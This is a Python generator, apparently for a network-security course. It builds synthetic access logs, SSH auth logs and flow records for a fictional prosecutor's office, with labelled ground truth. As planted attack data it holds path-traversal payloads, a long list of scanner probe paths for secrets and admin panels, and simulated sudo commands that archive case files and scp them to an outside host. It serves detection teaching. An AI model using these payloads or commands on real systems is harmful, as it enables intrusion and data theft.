    t = _at(5, 11, 40, 2)
    t = _visit(web, rng, TRAVERSAL_2, t, UA_ZGRAB, "HTTP/1.1", 1, "/download?file=guides%2Fappeal-guide.pdf")
    for k in range(22):
        depth = 2 + k % 4
        target = targets[k % 3]
        if k % 3 == 0:
            path = "/download?file=" + "....//" * depth + target
        elif k % 3 == 1:
            path = "/download?file=%2F" + target.replace("/", "%2F")           # an absolute path
        else:
            path = "/download?file=" + "%2e%2e/" * depth + target
        web.add(t, TRAVERSAL_2, "GET", path, 403, 486, "-", UA_ZGRAB, kind="path_traversal")
        t += rng.randint(5, 20)

    # 6. Vulnerability scanners: hundreds of probes in a few minutes
    probes = _probe_paths()
    for ip, start, n, agent in [(SCANNER_1, _at(4, 1, 30, 5), 320, UA_GO),
                                (SCANNER_2, _at(6, 16, 2, 10), 130, UA_ZGRAB)]:
        t = start
        chosen = probes[:n] if ip == SCANNER_1 else rng.sample(probes, n)
        for path in chosen:
            status = 403 if path.startswith(("/.ht", "/.git/")) else 404
            if path in ("/robots.txt", "/"):
                status = 200
            size = {404: 1245, 403: 486}.get(status, 18544 if path == "/" else 312)
            web.add(t, ip, "GET", path, status, size, "-", agent, kind="scanner")
            t += rng.choice([0, 1, 1, 1, 2]) if ip == SCANNER_1 else rng.choice([1, 1, 2, 2])

    # 7. Password guessing on /login, Wednesday night, ending in one success
    t = _at(2, 2, 14, 3)
    web.add(t - 30, INTRUDER, "GET", "/login", 200, 3418, "-", UA_PYTHON)
    for _ in range(383):
        web.add(t, INTRUDER, "POST", "/login", 200, 3530, _ref("/login"), UA_PYTHON, kind="brute_force")
        t += rng.randint(4, 10)
    web.add(t, INTRUDER, "POST", "/login", 302, 238, _ref("/login"), UA_PYTHON, kind="brute_force")
    t += 1
    web.add(t, INTRUDER, "GET", "/dashboard", 200, _page_size("/dashboard", rng), _ref("/login"), UA_PYTHON)
    for page in range(1, 9):
        t += rng.randint(3, 9)
        web.add(t, INTRUDER, "GET", f"/case-files/list?page={page}", 200, 22000 + 311 * page, _ref("/dashboard"), UA_PYTHON)
    for k in range(37):
        t += rng.randint(20, 60)
        web.add(t, INTRUDER, "GET", f"/case-files/download?id=2024-{rng.randint(1, 180):04d}", 200,
                rng.randint(300_000, 2_500_000), _ref("/case-files/list"), UA_PYTHON)
    web.add(t + 12, INTRUDER, "GET", "/logout", 302, 238, _ref("/case-files/list"), UA_PYTHON)

    # 8. Guessing from the carrier's shared address on Thursday night: never succeeds
    t = _at(3, 23, 40, 11)
    web.add(t - 20, CARRIER_NAT, "GET", "/login", 200, 3418, "-", BROWSERS[4][0])
    for _ in range(61):
        web.add(t, CARRIER_NAT, "POST", "/login", 200, 3530, _ref("/login"), BROWSERS[4][0], kind="brute_force")
        t += rng.randint(7, 16)

    # 9. A short scan on Wednesday lunchtime: exactly 50 probes, all answered 404, inside one
    #    10-minute window of the clock (13:01 to at most 13:06).
    t = _at(2, 13, 1, 7)
    quiet = [p for p in probes if not p.startswith(("/.ht", "/.git/")) and p not in ("/robots.txt", "/")]
    for path in rng.sample(quiet, 50):
        web.add(t, SCANNER_EDGE, "GET", path, 404, 1245, "-", UA_GO, kind="scanner")
        t += rng.randint(2, 6)

    # 10. A patient guesser on Saturday night: exactly 20 wrong passwords, minutes apart, no success
    t = _at(5, 1, 12, 40)
    web.add(t - 25, GUESSER_EDGE, "GET", "/login", 200, 3418, "-", UA_PYTHON)
    for _ in range(20):
        web.add(t, GUESSER_EDGE, "POST", "/login", 200, 3530, _ref("/login"), UA_PYTHON, kind="brute_force")
        t += rng.randint(90, 300)


def _probe_paths() -> list[str]:
    fixed = ["/", "/robots.txt", "/.env", "/.env.bak", "/.env.production", "/.git/config", "/.git/HEAD",
             "/.svn/entries", "/.DS_Store", "/.htaccess", "/.htpasswd", "/wp-admin/", "/wp-login.php",
             "/xmlrpc.php", "/phpmyadmin/", "/phpMyAdmin/index.php", "/pma/", "/myadmin/", "/admin.php",
             "/admin/login.php", "/administrator/", "/manager/html", "/server-status", "/server-info",
             "/actuator/env", "/actuator/health", "/console/", "/solr/admin/", "/jenkins/login",
             "/cgi-bin/luci", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/shell.php",
             "/cmd.jsp", "/boaform/admin/formLogin", "/HNAP1/", "/api/v1/users", "/swagger-ui.html",
             "/druid/index.html", "/nacos/", "/owa/auth/logon.aspx", "/remote/login", "/geoserver/web/",
             "/info.php", "/phpinfo.php", "/test.php", "/debug/default/view", "/telescope/requests",
             "/_profiler/", "/config.json", "/web.config"]
    plugins = ["contact-form-7", "revslider", "wp-file-manager", "elementor", "woocommerce", "akismet",
               "duplicator", "really-simple-ssl", "wpforms-lite", "jetpack", "wp-super-cache", "yoast-seo",
               "updraftplus", "wordfence", "all-in-one-seo-pack", "litespeed-cache"]
    backups = [f"/{name}.{ext}" for name in ["backup", "www", "web", "site", "db", "database", "jcy", "yuanhe",
                                             "portal", "data", "dump", "old", "wwwroot", "htdocs", "admin",
                                             "bak", "release", "upload", "src", "temp"]
               for ext in ["zip", "tar.gz", "rar", "sql", "bak", "7z", "sql.gz", "tgz"]]
    configs = [f"{d}{f}" for d in ["/", "/config/", "/includes/", "/app/", "/conf/", "/admin/", "/inc/", "/api/"]
               for f in ["config.php.bak", "config.inc.php", "database.yml", "settings.py", "db.php~",
                         "config.php.swp", "application.properties", "parameters.yml"]]
    panels = [f"/{p}/login" for p in ["zabbix", "grafana", "kibana", "nexus", "gitlab", "harbor", "rancher",
                                      "portainer", "minio", "webmin", "cpanel", "plesk", "ispconfig", "roundcube",
                                      "zimbra", "seeyon", "weaver", "yonyou", "tongda", "ruoyi"]]
    out = fixed + [f"/wp-content/plugins/{p}/readme.txt" for p in plugins] + panels + backups + configs
    seen, unique = set(), []
    for p in out:
        if p not in seen:
            seen.add(p)
            unique.append(p)
    return unique


def _access_log(seed: int) -> tuple[str, pd.DataFrame, pd.DataFrame, list[tuple]]:
    web = _Web()
    _ordinary_web(web, random.Random(seed * 10 + 1))
    _crawlers(web, random.Random(seed * 10 + 2))
    _web_attacks(web, random.Random(seed * 10 + 3))
    # The log is rotated at midnight on Sunday: a visit still going on then goes on in next
    # week's file (without this, a late session of some seeds spilled past the week).
    rows = sorted((r for r in web.rows if r[0] < DAYS * 86400), key=lambda r: (r[0], r[1]))
    lines, truth_lines = [], []
    for n, (sec, _, ip, method, path, status, size, referer, agent, kind, proto) in enumerate(rows, start=1):
        lines.append(f'{ip} - - [{_apache(sec)}] "{method} {path} {proto}" {status} {size} "{referer}" "{agent}"')
        if kind:
            truth_lines.append((n, ip, kind))
    truth = pd.DataFrame(truth_lines, columns=["line", "ip", "kind"])
    secs = {n: r[0] for n, r in enumerate(rows, start=1)}
    summary = []
    notes = {
        (SQLI_TOOL, "sql_injection"): "automated injection (sqlmap) into the case page and the search",
        (SQLI_HAND, "sql_injection"): "injection typed by hand in a browser, between ordinary page views",
        (SQLI_EVADE, "sql_injection"): "injection hidden from filters with comments and mixed case",
        (TRAVERSAL_1, "path_traversal"): "curl asks /download, /static and /cgi-bin for system files, plain and encoded",
        (TRAVERSAL_2, "path_traversal"): "a second, short try with filter-evasion forms and an absolute path",
        (SCANNER_1, "scanner"): "a scanner probes known paths of web software, one or two a second",
        (SCANNER_2, "scanner"): "a second scanner, the same kind of probes in under 4 minutes",
        (SCANNER_EDGE, "scanner"): "a short scan of exactly 50 paths, all answered 404, in one 10-minute window",
        (INTRUDER, "brute_force"): "383 wrong passwords, then a success; 37 case files downloaded until the logout",
        (CARRIER_NAT, "brute_force"): "61 wrong passwords from a carrier's shared address; no success after them "
                                      "(a lawyer had logged in from the same address on Monday)",
        (GUESSER_EDGE, "brute_force"): "exactly 20 wrong passwords, minutes apart, on Saturday night; no success",
    }
    for (ip, kind), part in truth.groupby(["ip", "kind"], sort=False):
        times = [secs[n] for n in part["line"]]
        got_in = "yes" if (ip, kind) == (INTRUDER, "brute_force") else "no"
        summary.append((ip, kind, _stamp(min(times)), _stamp(max(times)), len(part), got_in, notes[(ip, kind)]))
    attacks = pd.DataFrame(summary, columns=["ip", "kind", "first", "last", "requests", "got_in", "note"])
    attacks = attacks.sort_values(["first", "ip"]).reset_index(drop=True)
    return "\n".join(lines) + "\n", truth, attacks, rows


# --- the SSH server's auth.log ---------------------------------------------------------------

class _Auth:
    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.rows: list[tuple] = []      # (second, order, process, pid, message)
        self.conns: list[tuple] = []     # (second, ip, port, duration, ok)
        self.tokens = 0
        self.session = 11

    def add(self, sec, process, pid, message):
        self.rows.append((int(sec), len(self.rows), process, pid, message))

    def new_pid(self) -> int:
        """A placeholder; real process ids are handed out in time order at the end."""
        self.tokens += 1
        return -self.tokens

    def port(self) -> int:
        return self.rng.randint(32768, 60999)

    def fail(self, sec: int, ip: str, user: str, valid: bool) -> None:
        pid, port = self.new_pid(), self.port()
        if not valid:
            self.add(sec, "sshd", pid, f"Invalid user {user} from {ip} port {port}")
            self.add(sec + 2, "sshd", pid, f"Failed password for invalid user {user} from {ip} port {port} ssh2")
            self.add(sec + 2, "sshd", pid, f"Connection closed by invalid user {user} {ip} port {port} [preauth]")
        else:
            self.add(sec + 1, "sshd", pid, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 "
                                           f"tty=ssh ruser= rhost={ip}  user={user}")
            self.add(sec + 3, "sshd", pid, f"Failed password for {user} from {ip} port {port} ssh2")
            self.add(sec + 3, "sshd", pid, f"Connection closed by authenticating user {user} {ip} port {port} [preauth]")
        self.conns.append((sec, ip, port, 3.2, False))

    def login(self, sec: int, ip: str, user: str, uid: int, method: str, length: int,
              mistakes: int = 0, sudo: list[str] | None = None) -> int:
        """A login that is accepted (after `mistakes` wrong passwords on the same connection)."""
        pid, port = self.new_pid(), self.port()
        t = sec
        for _ in range(mistakes):
            self.add(t + 1, "sshd", pid, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 "
                                         f"tty=ssh ruser= rhost={ip}  user={user}")
            self.add(t + 3, "sshd", pid, f"Failed password for {user} from {ip} port {port} ssh2")
            t += self.rng.randint(6, 15)
        if method == "publickey":
            key = "".join(self.rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")
                          for _ in range(43))
            self.add(t, "sshd", pid, f"Accepted publickey for {user} from {ip} port {port} ssh2: ED25519 SHA256:{key}")
        else:
            self.add(t, "sshd", pid, f"Accepted password for {user} from {ip} port {port} ssh2")
        accepted = t
        self.add(t, "sshd", pid, f"pam_unix(sshd:session): session opened for user {user}(uid={uid}) by (uid=0)")
        self.session += 1
        self.add(t, "systemd-logind", 612, f"New session {self.session} of user {user}.")
        for k, command in enumerate(sudo or []):
            when = t + 90 + 150 * k
            self.add(when, "sudo", None, f"  {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND={command}")
            self.add(when, "sudo", None, f"pam_unix(sudo:session): session opened for user root(uid=0) by {user}(uid={uid})")
            self.add(when + 20, "sudo", None, "pam_unix(sudo:session): session closed for user root")
        end = t + length
        self.add(end, "sshd", pid, f"Received disconnect from {ip} port {port}:11: disconnected by user")
        self.add(end, "sshd", pid, f"Disconnected from user {user} {ip} port {port}")
        self.add(end, "sshd", pid, f"pam_unix(sshd:session): session closed for user {user}")
        self.add(end, "systemd-logind", 612, f"Session {self.session} logged out. Waiting for processes to exit.")
        self.conns.append((sec, ip, port, float(end - sec), True))
        return accepted


GUESSED_USERS = ["admin", "test", "user", "oracle", "ubuntu", "pi", "git", "postgres", "guest", "ftpuser",
                 "support", "deploy1", "mysql", "hadoop", "www", "jenkins", "centos", "dev", "backup1", "nagios"]


def _auth_log(seed: int) -> tuple[str, pd.DataFrame, list[tuple]]:
    rng = random.Random(seed * 10 + 4)
    log = _Auth(rng)
    # ordinary administration
    for day in range(DAYS):
        log.login(_at(day, 1, 0, rng.randint(2, 9)), FILE_SERVER, "backup", 1010, "publickey", rng.randint(300, 900))
        if day < 5:
            log.login(_at(day, 8, rng.randint(25, 55), rng.randrange(60)), "192.0.2.105", "opsadmin", 1001,
                      "publickey", rng.randint(3 * 3600, 4 * 3600))
            log.login(_at(day, 14, rng.randint(0, 40), rng.randrange(60)), "192.0.2.105", "opsadmin", 1001,
                      "publickey", rng.randint(1800, 3 * 3600))
        if day in (1, 3):
            log.login(_at(day, 19, rng.randint(0, 30), rng.randrange(60)), "192.0.2.120", "deploy", 1003,
                      "password", rng.randint(600, 1800))
        for hour in range(24):   # the hourly job
            sec = _at(day, hour, 17, 1)
            pid = log.new_pid()
            log.add(sec, "CRON", pid, "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)")
            log.add(sec + rng.randint(1, 4), "CRON", pid, "pam_unix(cron:session): session closed for user root")
    # a system administrator mistypes twice, then gets in (Wednesday morning)
    log.login(_at(2, 10, 5, 12), "192.0.2.131", "liwei", 1004, "password", 2400, mistakes=2)
    # the partner agency's liaison logs in on Monday from its office address
    log.login(_at(0, 10, 20, 33), SSH_D, "liaison", 1005, "password", 1500)

    truth = []

    def guess(ip: str, start: int, n: int, gap: tuple[int, int], users: list[str], note: str,
              success: tuple[str, int] | None = None) -> None:
        t = start
        times = []
        for k in range(n):
            user = rng.choice(users)
            valid = user in ("root", "yhadmin", "liaison")
            log.fail(t, ip, user, valid)
            times.append(t + (2 if not valid else 3))
            t += rng.randint(*gap)
        accepted_at = ""
        user = ""
        if success:
            user, uid = success
            when = log.login(t, ip, user, uid, "password", 1450, sudo=[
                "/usr/bin/tar czf /tmp/.c.tgz /srv/cases", "/usr/bin/scp /tmp/.c.tgz backup@198.51.100.150:/tmp/",
                "/usr/bin/rm /tmp/.c.tgz"])
            accepted_at = _stamp(when)
        window = max(sum(1 for u in times if t0 - 1800 < u <= t0) for t0 in times)
        periods: dict[int, int] = {}   # fixed half-hours since START (Monday 00:00)
        for u in times:
            periods[u // 1800] = periods.get(u // 1800, 0) + 1
        half_hour = max(periods.values())
        truth.append((ip, n, _stamp(min(times)), _stamp(max(times)), window, half_hour,
                      "yes" if half_hour >= 30 else "no", "yes" if success else "no", user, accepted_at, note))

    guess(SSH_A, _at(1, 1, 5, 9), 600, (12, 24), ["root"] * 3 + GUESSED_USERS,
          "dictionary attack on many user names for three hours; never gets in")
    guess(SSH_D, _at(3, 2, 21, 10), 35, (30, 38), ["root", "admin", "liaison", "test"],
          "burst from the partner agency's office address across 02:30: fixed half-hours (Zeek's periods) "
          "split it into two halves below 30, the course's sliding window catches it; "
          "its earlier accepted login on Monday was the liaison's, before the failures")
    guess(SSH_C, _at(0, 3, 12, 0), 42, (8000, 14000), ["root"],
          "slow guessing all week, never more than a few failures in 30 minutes")
    guess(SSH_B, _at(4, 22, 30, 41), 180, (14, 22), ["root", "yhadmin"],
          "guesses root and yhadmin for an hour, gets in as yhadmin, archives /srv/cases and copies it out",
          success=("yhadmin", 1002))
    guess(SSH_E, _at(6, 15, 10, 2), 25, (18, 30), ["root"],
          "a short burst below Zeek's threshold; gives up")
    rows = sorted(log.rows, key=lambda r: (r[0], r[1]))
    pids, next_pid = {}, 2100
    for _, _, _, token, _ in rows:
        if token is not None and token < 0 and token not in pids:
            next_pid += rng.randint(1, 40)
            pids[token] = next_pid
    lines = [f"{_syslog(sec)} {SSH_HOST} {proc}{'' if pid is None else f'[{pids.get(pid, pid)}]'}: {msg}"
             for sec, _, proc, pid, msg in rows]
    attacks = pd.DataFrame(truth, columns=["ip", "failures", "first", "last", "max_30min", "max_half_hour",
                                           "zeek_notice", "got_in", "user", "accepted_at", "note"])
    attacks = attacks.sort_values("first").reset_index(drop=True)
    return "\n".join(lines) + "\n", attacks, log.conns


# --- flow records ------------------------------------------------------------------------------

WEB_LABELS = {"sql_injection": "Web Attack - Sql Injection", "path_traversal": "Web Attack - Path Traversal",
              "scanner": "Web Attack - Scanner", "brute_force": "Web Attack - Brute Force"}


def _flows(seed: int, web_rows: list[tuple], ssh_conns: list[tuple]) -> tuple[pd.DataFrame, pd.DataFrame]:
    rng = random.Random(seed * 10 + 5)
    rows = []   # (local second as float, src, sport, dst, dport, proto, duration, packets, bytes, state, label)

    def port() -> int:
        return rng.randint(32768, 60999)

    # web: one connection per visitor page view; one per request for tools and crawlers
    tools = {UA_SQLMAP, UA_CURL, UA_GO, UA_ZGRAB, UA_PYTHON, UA_LINUX, MONITOR_AGENT,
             *(agent for agent, _, _ in CRAWLERS.values())}
    for sec, _, ip, method, path, status, size, referer, agent, kind, proto in web_rows:
        if agent not in tools and path.startswith(("/static/", "/favicon", "/apple-touch")):
            continue
        nbytes = (size if isinstance(size, int) else 0) + rng.randint(600, 1400)
        dport = 80 if ip == MONITOR else 443
        rows.append((sec - rng.random() * 0.5, ip, port(), WEB_SERVER, dport, "tcp",
                     round(0.02 + rng.random() * (4 if nbytes > 50_000 else 0.6), 6),
                     8 + nbytes // 1400, nbytes, "SF", WEB_LABELS.get(kind, "BENIGN")))
    # SSH connections seen in auth.log
    for sec, ip, sport, duration, ok in ssh_conns:
        rows.append((sec - 0.3, ip, sport, SSH_SERVER, 22, "tcp", duration, 24 if not ok else 180 + int(duration // 5),
                     3900 if not ok else 52_000 + int(duration) * 40, "SF" if ok else "RSTO",
                     "BENIGN" if ok else "SSH-Patator"))
    # the office: name lookups, mail, file shares, on working days
    for ip in STAFF:
        for day in range(DAYS):
            n = rng.randint(18, 30) if day < 5 else rng.randint(0, 2)
            for _ in range(n):
                sec = _at(day, rng.choice([8, 9, 9, 10, 10, 11, 14, 14, 15, 15, 16, 17]), rng.randrange(60), rng.randrange(60))
                r = rng.random()
                if r < 0.55:
                    rows.append((sec + rng.random(), ip, port(), DNS_SERVER, 53, "udp", round(rng.random() * 0.01, 6),
                                 2, rng.randint(120, 380), "SF", "BENIGN"))
                elif r < 0.75:
                    rows.append((sec + rng.random(), ip, port(), MAIL_SERVER, 993, "tcp", round(rng.uniform(1, 300), 6),
                                 rng.randint(20, 400), rng.randint(4_000, 900_000), "SF", "BENIGN"))
                else:
                    rows.append((sec + rng.random(), ip, port(), FILE_SERVER, 445, "tcp", round(rng.uniform(0.5, 900), 6),
                                 rng.randint(30, 3000), rng.randint(9_000, 40_000_000), "SF", "BENIGN"))
    # monitoring: every six hours it checks the ports each server should have open
    checks = {WEB_SERVER: [80, 443, 8080, 8443, 9000, 9090, 9100, 3000, 5000, 8000, 8081, 8888, 10050, 161, 199,
                           2049, 3306, 6379, 11211, 9200, 9300, 5601, 15672, 5672, 25672, 4369, 873, 7001],
              SSH_SERVER: [22, 10050, 9100, 161, 2222, 873, 111, 2049, 514, 6514, 123, 323, 631, 5666, 4949, 8125,
                           8126, 9102, 9103, 9104, 9256, 9187, 9113, 9115, 9117],
              MAIL_SERVER: [25, 465, 587, 110, 143, 993, 995, 4190, 10050, 9100, 161, 389, 636, 3268, 3269, 11334,
                            11332, 11333, 10024, 10025, 783, 24, 2525, 8891, 8892, 8893, 9154, 9166, 9167, 9168],
              FILE_SERVER: [139, 445, 137, 138, 2049, 111, 20048, 10050, 9100, 161, 548, 3260, 5000, 5001, 8384,
                            21027, 22000, 873, 9418, 3690, 1194, 5353, 631, 9091],
              DNS_SERVER: [53, 953, 5353, 10050, 9100, 161, 8053, 853, 443, 9119, 9153, 8080, 67, 68, 546, 547,
                           4011, 69, 123, 323, 5355, 8600]}
    for sec in range(3600, WEEK, 6 * 3600):
        for k, (host, ports) in enumerate(checks.items()):
            for j, p in enumerate(ports):
                rows.append((sec + k * 7 + j * 0.05 + rng.random() * 0.01, MONITOR, port(), host, p, "tcp",
                             round(rng.random() * 0.02, 6), 6, rng.randint(300, 700), "SF", "BENIGN"))

    truth = []

    def scan(name: str, src: str, dst: str, start: int, seconds: int, ports: list[int], open_ports: set[int]) -> None:
        times = []
        for p in ports:
            sec = start + rng.random() * seconds
            times.append(sec)
            if p in open_ports:
                state, packets, nbytes = "SF", 4, 220
            else:
                state, packets, nbytes = ("REJ", 2, 84) if rng.random() < 0.85 else ("S0", 1, 44)
            rows.append((sec, src, port(), dst, p, "tcp", 0.0 if state != "SF" else round(rng.random() * 0.003, 6),
                         packets, nbytes, state, "PortScan"))
        truth.append((name, "PortScan", src, dst, _stamp(min(times)), _stamp(max(times)), len(ports), len(set(ports))))

    common = [21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1433, 1521, 3306, 3389,
              5432, 5900, 6379, 8080, 8443, 9200, 27017]
    low = [p for p in range(1, 1025) if p not in common]
    scan("scan-1", SCAN_TUE, SSH_SERVER, _at(1, 22, 15, 4), 90, common + rng.sample(low, 274), {22})
    scan("scan-2", SCANNER_1, WEB_SERVER, _at(4, 0, 40, 2), 120,
         common + sorted(rng.sample(low, 600)) + rng.sample(range(1025, 10000), 374), {80, 443})
    # the slow scan asks exactly 100 distinct ports: it sits on Question 10's bar
    scan("scan-3", SCAN_SAT, MAIL_SERVER, _at(5, 4, 10, 30), 2400, common + rng.sample(low, 74), {25, 993})

    def flood(name: str, bots: list[str], start: int, minutes: int, per_minute: int) -> None:
        seen: dict[str, list] = {ip: [] for ip in bots}
        for m in range(minutes):
            for _ in range(per_minute + rng.randint(-15, 15)):
                ip = rng.choice(bots)
                sec = start + m * 60 + rng.random() * 59.999
                dport = rng.choice([80, 443, 443])
                seen[ip].append((sec, dport))
                if rng.random() < 0.7:
                    state, duration, packets, nbytes = "S0", 0.0, 1, 60
                else:
                    state, duration, packets, nbytes = "SF", round(rng.random() * 0.05, 6), 6, rng.randint(400, 900)
                rows.append((sec, ip, port(), WEB_SERVER, dport, "tcp", duration, packets, nbytes, state, "DoS"))
        for ip, hits in seen.items():
            if hits:
                times = [t for t, _ in hits]
                truth.append((name, "DoS", ip, WEB_SERVER, _stamp(min(times)), _stamp(max(times)), len(hits),
                              len({p for _, p in hits})))

    flood("dos-1", DOS_BOTS[::4], _at(2, 10, 0, 0), 3, 200)
    flood("dos-2", DOS_BOTS, _at(5, 14, 0, 0), 20, 300)

    rows.sort(key=lambda r: (r[0], r[1], r[4]))
    epoch0 = (START - _dt.datetime(1970, 1, 1)).total_seconds() - UTC_OFFSET
    flows = pd.DataFrame({
        "ts": [f"{epoch0 + int(r[0]):.0f}" for r in rows],
        "src_ip": [r[1] for r in rows],
        "src_port": [r[2] for r in rows],
        "dst_ip": [r[3] for r in rows],
        "dst_port": [r[4] for r in rows],
        "proto": [r[5] for r in rows],
        "duration": [f"{r[6]:.6f}" for r in rows],
        "packets": [r[7] for r in rows],
        "bytes": [r[8] for r in rows],
        "conn_state": [r[9] for r in rows],
        "label": [r[10] if r[0] < LABELLED_UNTIL else "" for r in rows],
    })
    attacks = pd.DataFrame(truth, columns=["attack", "kind", "src_ip", "dst_ip", "first", "last", "flows", "ports"])
    attacks = attacks.sort_values(["first", "src_ip"]).reset_index(drop=True)
    return flows, attacks


_OUTSIDE = re.compile(r"(?<![\d.])(198\.51\.100|203\.0\.113)\.(\d{1,3})(?![\d])")


def _rename_outside(tables: dict, seed: int) -> dict:
    """A class's own outside addresses. The incidents are scripted with fixed addresses (SQLI_TOOL,
    INTRUDER, ...), which anyone can read in this file; a class build renames every host of the
    two outside networks by a permutation drawn from its seed, in every log, flow and truth
    table alike, so that only its data show who attacked."""
    rng = random.Random(seed * 10 + 9)
    renamed = {}
    for net in ("198.51.100", "203.0.113"):
        hosts = list(range(1, 255))
        shuffled = hosts[:]
        rng.shuffle(shuffled)
        renamed.update({f"{net}.{a}": f"{net}.{b}" for a, b in zip(hosts, shuffled)})

    def swap(text: str) -> str:
        return _OUTSIDE.sub(lambda m: renamed.get(m.group(0), m.group(0)), text)

    out = {}
    for name, value in tables.items():
        if isinstance(value, str):
            out[name] = swap(value)
        else:
            value = value.copy()
            for col in value.columns:
                if value[col].dtype == object:
                    value[col] = [swap(v) if isinstance(v, str) else v for v in value[col]]
            out[name] = value
    return out


def generate(seed: int = DEFAULT_SEED, *, secret: bool = False) -> dict:
    """Build every table (see TABLES): the two logs as text, the flows and the truth as tables.
    `secret`: a class's build, whose attackers' addresses are drawn from the seed too."""
    access, lines, web_attacks, web_rows = _access_log(seed)
    auth, ssh_attacks, conns = _auth_log(seed)
    flows, flow_attacks = _flows(seed, web_rows, conns)
    tables = {
        "access_log": access,
        "auth_log": auth,
        "flows": flows,
        "web_attacks": web_attacks,
        "web_attack_lines": lines,
        "ssh_attacks": ssh_attacks,
        "flow_attacks": flow_attacks,
    }
    return _rename_outside(tables, seed) if secret else tables


TITLE = "Network traces: a web access log, an SSH auth log and flow records"
DESCRIPTION = f"""\
One week (Monday 26 February to Sunday 3 March 2024, Beijing time) of the traces that the
Yuanhe County People's Procuratorate (元和县人民检察院, fictional) keeps about its own network,
for module 04 (network security I: traces). The public portal `{SITE}` runs on
{WEB_SERVER}; lawyers log in there to book case-file reading. The SSH server `{SSH_HOST}`
({SSH_SERVER}) is administered from the office network 192.0.2.0/24. The perimeter
firewall records every connection.

Every address is in the documentation ranges (192.0.2.0/24 for the procuratorate's own
machines, 198.51.100.0/24 and 203.0.113.0/24 outside), every name ends in `.example` or
`.test`. No address, name or person is real.

**Time.** The access log writes Beijing time with its zone (`+0800`). The auth log writes
local time with **no year and no zone**, as syslog does: the case file records that the
server's clock is Beijing time and the year 2024 (which has a 29 February). The flow
records use Unix seconds in UTC: add 8 hours."""
HOW = """\
`course/data/traces.py` draws each source from its own `random.Random`, seeded from the
seed above. About 2,300 visitor sessions start at times drawn from an hourly profile (busy
9-11 and 14-17, quiet at night, about half on the weekend); each brings its pages and static
files (200 the first time, 304 once cached); crawlers and an uptime monitor add requests
around the clock. Forty lawyers log in on working days; nine mistype their password one to
three times first. Near misses: searches containing "select", "union" or an apostrophe, a
broken link from a forum, a crawler that meets stale links all week, pages named
`change-passwd`. SSH: a backup job and two administrators log in daily; one mistypes
twice; the partner agency's liaison logs in once. Flows: one connection per page view (per
request for tools), the office's DNS, mail and file traffic, a monitoring server that
checks 22-30 ports on each of five servers every six hours, the SSH connections of the
auth log, three port scans and two floods."""
PLANTED = {
    "web_attacks": "3 SQL injectors, 2 path-traversal sources, 3 scanner bursts (one with exactly 50 answers "
                   "404 in its 10 minutes), 3 password-guessing sources on /login (one gets in, one fails exactly "
                   "20 times)",
    "web_attack_lines": "every attack request by line number, to measure a flagging rule's precision and recall",
    "ssh_attacks": "5 guessing sources: 3 reach 30 failures within 30 minutes and 1 of these gets in, but only "
                   "2 reach 30 in one fixed half-hour, as Zeek counts; 1 slow, 1 short",
    "flow_attacks": "3 port scans (100+ ports of one host each, one exactly 100) and 2 floods of the web server (one labelled)",
}
